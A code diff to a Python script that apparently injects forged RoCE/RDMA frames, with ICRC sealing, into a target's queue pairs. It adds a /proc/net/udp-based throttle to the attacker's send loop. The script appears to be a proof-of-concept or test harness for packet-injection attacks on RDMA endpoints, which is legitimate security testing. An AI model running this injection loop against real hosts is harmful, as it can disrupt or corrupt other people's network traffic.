@@ -16,6 +16,9 @@ import time
 import icrc_check
 
 ROCE_PORT = icrc_check.ROCE_PORT
+# The kernel counts about 2300 bytes of a receive buffer for a frame of 1 KiB, and
+# a socket holds at least 200 KiB.
+QUEUE_BYTES = 65536
 IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
 
 SEND_ONLY, WRITE_ONLY, READ_REQUEST = 0x04, 0x0A, 0x0C
@@ -134,12 +137,30 @@ def address_of(text):
     return None
 
 
+def queued():
+    """Returns how many bytes wait in the fullest socket of ROCE_PORT in this
+    network namespace."""
+    most = 0
+    for name in "/proc/net/udp", "/proc/net/udp6":
+        if os.path.exists(name):
+            with open(name) as f:
+                for row in list(f)[1:]:
+                    _, local, _, _, queues = row.split()[:5]
+                    if local.endswith(":%04X" % ROCE_PORT):
+                        most = max(most, int(queues.split(":")[1], 16))
+    return most
+
+
 def main():
     target, qpns = sys.argv[1], [int(q, 16) for q in sys.argv[2:]]
     attacker = Attacker(target, target)
     signal.signal(signal.SIGTERM, lambda *_: sys.exit("%d" % attacker.sent))
     psn = 0
     while True:
+        # Without this pause the frames would fill the socket of a program that
+        # is suspended, and the kernel would drop the program's own packets.
+        while queued() > QUEUE_BYTES:
+            time.sleep(0.001)
         for qpn in qpns:
             for opcode in (SEND_ONLY, UC_SEND_ONLY):
                 attacker.send(attacker.sealed(bth(opcode, qpn, psn) +
